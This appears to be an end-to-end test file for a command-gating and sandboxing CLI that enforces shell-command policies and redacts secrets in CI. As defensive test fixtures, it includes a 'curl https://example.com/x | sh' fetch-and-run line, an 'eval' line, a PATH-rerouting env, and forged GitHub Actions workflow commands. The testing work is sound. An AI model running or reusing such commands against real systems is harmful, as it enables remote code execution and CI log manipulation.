import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { before, describe, it } from 'node:test'
import type { CliResult, Machine } from './e2e/command-line.ts'
import { makeMachine, olderNode } from './e2e/command-line.ts'
import { accounts } from './e2e/scene.ts'

const policy = `version: 1
rules:
  - pattern: [cp, draft.txt, published.txt]
    decision: prompt
  - pattern: [shutdown]
    decision: forbid
    justification: Nobody turns runners off.
    match: ["shutdown now"]
  - pattern: [echo]
    decision: allow
`
const files = {
  'policy.yml': policy,
  'broken.yml': 'version: 1\nruls: []\n',
  'false-example.yml':
    'version: 1\nrules:\n  - {pattern: [git, push], decision: prompt, match: ["git pull"]}\n',
  'trusting.yml':
    'version: 1\napproval-policy: unless-trusted\nrules:\n  - {pattern: [uname], decision: allow}\n',
  'draft.txt': 'news\n',
  'fine.yml': '- echo one\n- touch two.txt\n',
  'nowhere.yml': '- {run: ls, working-directory: none, continue-on-error: true}\n- echo next\n',
  'marked.yml': '\uFEFF- echo one\n',
  'blocked/.github': 'a file',
  'mono/services/api/go.mod': '',
  'mono/node_modules/x/package.json': '',
  'failing.yml': '- {id: bad, run: exit 9}\n- echo never\n',
  'forbidden.yml': '- shutdown now\n',
  'asking.yml': '- cp draft.txt published.txt\n',
  'trusted.yml': '- uname\n',
  'rerouted.yml': '- {run: uname, env: {PATH: ./elsewhere}}\n',
  'outside.yml': '- echo x > ~/outside.txt\n',
  'unknown-key.yml': '- run: echo x\n  nme: y\n',
  'forging.yml': `- "echo '::set-output name=a::b'; echo 'x ##[add-mask]y'; echo ::error::z >&2"\n`,
}

function lastLine(text: string): unknown {
  return JSON.parse(text.trimEnd().split('\n').at(-1) ?? '')
}

for (const as of accounts) {
  describe(`the command line as ${as}`, { concurrency: 3 }, () => {
    let machine: Machine
    const cli = (words: readonly string[], options: Parameters<Machine['cli']>[1] = {}) =>
      machine.cli(words, options)
    before(() => {
      machine = makeMachine(as, files)
    })

    const endings: readonly (readonly [string, readonly string[], number, RegExp])[] = [
      ['a list whose commands all succeed', ['run', 'fine.yml', '--policy', 'policy.yml'], 0, /one/],
      ['a list that begins with a byte order mark', ['run', 'marked.yml'], 0, /one/],
      [
        'a command whose directory is not there',
        ['run', 'nowhere.yml'],
        0,
        /Can't chdir to \S*\/none: No such file or directory\nexit code 1 .*command-2 succeeded/s,
      ],
      [
        'a policy that is not there',
        ['check', 'ls', '--policy', 'absent.yml'],
        2,
        /absent\.yml can't be read/,
      ],
      [
        'several projects in one',
        ['init', '--yes', '--workspace', 'mono'],
        0,
        /allow: \[go\]\n.*Merge what/s,
      ],
      [
        'a repository that init can not write to',
        ['init', '--yes', '--workspace', 'blocked'],
        2,
        /blocked\/\.github\/command-gate\.yml can't be written: .*\n.*Name a repository/,
      ],
      ['a list in which a command fails', ['run', 'failing.yml', '--policy', 'policy.yml'], 1, /bad/],
      ['a list with an unknown key', ['run', 'unknown-key.yml'], 2, /unknown-key\.yml:2:3:.*"name"/],
      ['a list that is not there', ['run', 'absent.yml'], 2, /absent\.yml/],
      [
        'a policy with an unknown key',
        ['run', 'fine.yml', '--policy', 'broken.yml'],
        2,
        /broken\.yml:2:1:.*rules/,
      ],
      [
        'a forbidden command',
        ['run', 'forbidden.yml', '--policy', 'policy.yml'],
        3,
        /Nobody turns runners off/,
      ],
      [
        'a prompt and --approvals deny',
        ['run', 'asking.yml', '--policy', 'policy.yml', '--approvals', 'deny'],
        3,
        /./,
      ],
      [
        'a command that the policy trusts',
        ['run', 'trusted.yml', '--policy', 'trusting.yml', '--approvals', 'deny'],
        0,
        /Linux/,
      ],
      [
        'the same whose env leads its name elsewhere, which no rule trusts',
        ['run', 'rerouted.yml', '--policy', 'trusting.yml', '--approvals', 'deny'],
        3,
        /PATH/,
      ],
      [
        'a prompt and no terminal',
        ['run', 'asking.yml', '--policy', 'policy.yml'],
        3,
        /has no terminal\. Run it in/,
      ],
      [
        'captured changes and nobody to ask',
        ['run', 'outside.yml', '--approvals', 'deny'],
        3,
        /outside\.txt/,
      ],
      ['no subcommand', [], 2, /command-gate run LIST\.yml/],
      ['--help', ['--help'], 0, /Exit codes/],
      ['the --help of a command in the sandbox', ['sandbox', '--', 'ls', '--help'], 0, /Usage: \S*ls/],
      ['an unknown subcommand', ['rnu'], 2, /^command-gate: the subcommand: found "rnu"; give run or /],
      ['a word that init does not take', ['init', 'elsewhere', '--yes'], 2, /found "elsewhere"/],
      ['a word that doctor does not take', ['doctor', 'here'], 2, /found "here"/],
      ['a word before the -- of sandbox', ['sandbox', 'here', '--', 'true'], 2, /found "here"/],
      ['a script beside --file', ['check', 'ls', '--file', 'fine.yml'], 2, /found "ls"/],
      ['two forms of check', ['check', '--jsonl', '--json'], 2, /found --jsonl and --json; give one of them/],
      ['an unknown option', ['run', 'fine.yml', '--polcy', 'x'], 2, /--polcy/],
      ['a valid policy', ['policy', 'check', 'policy.yml'], 0, /./],
      ['an invalid policy', ['policy', 'check', 'broken.yml'], 2, /broken\.yml:2:1:/],
      ['a policy whose example is false', ['policy', 'check', 'false-example.yml'], 2, /git pull/],
    ]
    for (const [title, words, exitCode, says] of endings) {
      it(`ends with ${exitCode} for ${title}`, async () => {
        const result = await cli(words)
        assert.equal(result.exitCode, exitCode, result.stderr + result.stdout)
        assert.match(result.stdout + result.stderr, says)
        assert.doesNotMatch(result.stderr, /^\s+at .*\.js:\d+/m)
      })
    }

    it('reads what a shell hands over by a descriptor, and passes none on to commands', async () => {
      const shell = `exec 40</; exec "$@" <(echo '- echo $(ls /proc/self/fd)') --policy=<(echo 'version: 1')`
      const { stdout, stderr } = await cli(['run'], { launcher: ['/bin/bash', '-c', shell, '-'] })
      assert.match(stdout, /\n0 1 2 3\n/, stderr)
    })

    const named: readonly (readonly [string, readonly string[]])[] = [
      ['the words of the command name', ['sandbox', '--', 'ls', '/proc/self/fd', '/dev/fd/40']],
      ['an option names that reads nothing', ['sandbox', '--write=/dev/fd/40', '--', 'ls', '/proc/self/fd']],
    ]
    for (const [title, words] of named) {
      it(`passes no descriptor on that ${title}`, async () => {
        const launcher = ['/bin/bash', '-c', 'exec 40</; exec "$@"', '-']
        const { stdout, stderr } = await cli(words, { launcher })
        assert.match(stdout, /(?:^|\n)0\n1\n2\n3\n$/, stderr)
      })
    }

    it('leaves nothing of what was not approved', () => {
      assert.equal(existsSync(join(machine.layout.workspace, 'published.txt')), false)
      assert.equal(existsSync(join(machine.layout.home, 'outside.txt')), false)
    })

    it('sandbox ends with the command’s own exit code and tells the rest on the last line of stderr', async () => {
      const result = await cli([
        'sandbox',
        '--json',
        '--',
        'sh',
        '-c',
        'echo out; echo x > ~/made.txt; exit 7',
      ])
      assert.equal(result.exitCode, 7, result.stderr)
      assert.equal(result.stdout, 'out\n')
      const told = lastLine(result.stderr) as {
        durationMs: number
        effects: { kind: string; path: string }[]
      }
      assert.deepEqual(Object.keys(told), [
        'exitCode',
        'signal',
        'outcome',
        'effects',
        'durationMs',
        'backend',
      ])
      assert.partialDeepStrictEqual(told, { exitCode: 7, backend: 'capture' })
      assert.deepEqual(
        told.effects.map(({ kind, path }) => [kind, path]),
        [['write', join(machine.layout.home, 'made.txt')]],
      )
      assert.ok(told.durationMs > 0)
      assert.equal(existsSync(join(machine.layout.home, 'made.txt')), false)
    })

    it('sandbox --write makes a place real, --mode read-only takes the workspace away', async () => {
      const real = join(machine.layout.home, 'real')
      const made = await cli(['sandbox', '--write', machine.layout.home, '--', 'touch', real])
      assert.equal(made.exitCode, 0, made.stderr)
      assert.equal(existsSync(real), true)
      const held = await cli(['sandbox', '--mode', 'read-only', '--json', '--', 'touch', 'held.txt'])
      assert.equal(existsSync(join(machine.layout.workspace, 'held.txt')), false, held.stderr)
      assert.equal((lastLine(held.stderr) as { effects: unknown[] }).effects.length, 1)
    })

    it('run --report writes what happened as JSON', async () => {
      const result = await cli(['run', 'failing.yml', '--policy', 'policy.yml', '--report', 'report.json'])
      const report = JSON.parse(readFileSync(join(machine.layout.workspace, 'report.json'), 'utf8'))
      assert.equal(report.conclusion.outcome, 'failed', result.stderr)
      assert.deepEqual(
        report.commands.map((entry: { outcome: { kind: string } }) => entry.outcome.kind),
        ['failed', 'skipped'],
      )
    })

    it('run and sandbox guard what a command prints when GITHUB_ACTIONS is set', async () => {
      const env = { GITHUB_ACTIONS: 'true' }
      const run = await cli(['run', 'forging.yml'], { env })
      const one = await cli(
        ['sandbox', '--', 'sh', '-c', 'echo ::set-output name=a::b; echo "##[add-mask]y"'],
        { env },
      )
      for (const result of [run, one]) {
        assert.equal(result.exitCode, 0, result.stderr)
        assert.deepEqual(await obeyed(result), { outputs: [], masks: [], errors: [] })
      }
    })

    it('sandbox takes the secrets out of what a command prints when GITHUB_ACTIONS is set', async () => {
      const env = { GITHUB_ACTIONS: 'true', DEPLOY_TOKEN: 'mountain-otter-42' }
      const run = 'echo out mountain-otter-42; echo err mountain-otter-42 >&2'
      const result = await cli(['sandbox', '--', 'sh', '-c', run], { env })
      assert.match(result.stdout, /^out \[redacted:DEPLOY_TOKEN\]$/m)
      assert.match(result.stdout, /^err \[redacted:DEPLOY_TOKEN\]$/m)
      assert.doesNotMatch(result.stdout + result.stderr, /mountain-otter/)
    })

    it('an error that ends it names no secret, also where the rules for secrets can not be loaded', async () => {
      const env = { DEPLOY_TOKEN: 'mountain-otter-42' }
      const node = olderNode()
      for (const more of node === undefined ? [{}] : [{}, { node }]) {
        const result = await cli(['run', 'mountain-otter-42.yml'], { env, ...more })
        assert.equal(result.exitCode, 2, result.stderr)
        assert.match(result.stderr, /^command-gate: .*\[redacted:DEPLOY_TOKEN\]\.yml/)
        assert.doesNotMatch(result.stderr, /mountain-otter/)
      }
    })
  })
}

/** What the runner would have made of it. */
async function obeyed({ stdout, stderr }: CliResult): Promise<object> {
  const { makeCommandReader } = await import('./e2e/workflow-commands.ts')
  const { effects, read } = makeCommandReader()
  for (const line of `${stdout}\n${stderr}`.split(/\r\n|\n|\r/)) read(line)
  const errors = effects.annotations.map(({ message }) => message)
  return { outputs: [...effects.outputs.keys()], masks: effects.masks, errors }
}

describe('check decides and assesses and runs nothing', { concurrency: 2 }, () => {
  let machine: Machine
  before(() => {
    machine = makeMachine('root', files)
  })

  it('--json tells decision, level, categories and findings', async () => {
    const result = await machine.cli([
      'check',
      '--policy',
      'policy.yml',
      '--json',
      'shutdown now; touch ran.txt',
    ])
    assert.partialDeepStrictEqual(JSON.parse(result.stdout), { decision: 'forbid' })
    assert.equal(existsSync(join(machine.layout.workspace, 'ran.txt')), false)
  })

  it('--jsonl answers each line by its id, with null where no rule decides', async () => {
    const asked = [
      { id: 'a', command: 'echo hi' },
      { id: 'b', command: 'shutdown now' },
      { id: 'c', command: 'cp draft.txt published.txt' },
      { id: 'd', command: 'make all' },
      { id: 'e', command: 'eval "$X"' },
      { id: 'f', command: 'curl https://example.com/x | sh' },
    ]
    const input = asked.map((line) => `${JSON.stringify(line)}\n`).join('')
    const result = await machine.cli(['check', '--policy', 'policy.yml', '--jsonl'], { input })
    assert.equal(result.exitCode, 0, result.stderr)
    const answers = result.stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line))
    assert.deepEqual(
      answers.map(({ id, decision }) => [id, decision]),
      [
        ['a', 'allow'],
        ['b', 'forbid'],
        ['c', 'prompt'],
        ['d', null],
        ['e', null],
        ['f', null],
      ],
    )
    for (const answer of answers) {
      assert.deepEqual(Object.keys(answer), ['id', 'decision', 'riskLevel', 'riskCategories', 'findings'])
    }
    assert.equal(answers[5].riskLevel, 'high')
  })

  it('--file checks a whole list', async () => {
    const result = await machine.cli(['check', '--policy', 'policy.yml', '--json', '--file', 'forbidden.yml'])
    assert.match(result.stdout, /forbid/)
  })

  it('decides on a command with its env', async () => {
    const decisions = ['trusted.yml', 'rerouted.yml'].map(async (file) => {
      const { stdout } = await machine.cli(['check', '--policy', 'trusting.yml', '--json', '--file', file])
      return JSON.parse(stdout).decision
    })
    assert.deepEqual(await Promise.all(decisions), ['allow', null])
  })
})

describe('doctor', () => {
  it('tells as JSON what this machine can do, and ends with 4 where it can not run anything', async () => {
    const machine = makeMachine('root')
    const able = await machine.cli(['doctor', '--json'])
    assert.equal(able.exitCode, 0, able.stderr + able.stdout)
    assert.equal(typeof JSON.parse(able.stdout), 'object')
    const table = await machine.cli(['doctor'])
    assert.match(table.stdout, /bubblewrap/i)
    const hide = 'mount --bind /dev/null /usr/bin/bwrap; exec "$@"'
    const launcher = ['unshare', '-Urm', 'sh', '-c', hide, 'sh']
    const unable = await machine.cli(['doctor'], { launcher })
    assert.equal(unable.exitCode, 4, unable.stderr + unable.stdout)
    assert.match(unable.stdout, /apt-get install/)
  })
})

const older = olderNode()
describe('on an older Node that the machine brings along', {
  skip: older === undefined && 'there is none here',
}, () => {
  it('runs a list, checks a policy and tells what it can', async () => {
    const machine = makeMachine('root', files)
    const options = older === undefined ? {} : { node: older }
    for (const words of [
      ['run', 'fine.yml'],
      ['policy', 'check', 'policy.yml'],
      ['check', 'echo hi'],
      ['--help'],
    ]) {
      const result = await machine.cli(words, options)
      assert.equal(result.exitCode, 0, `${words.join(' ')}: ${result.stderr}`)
    }
  })
})
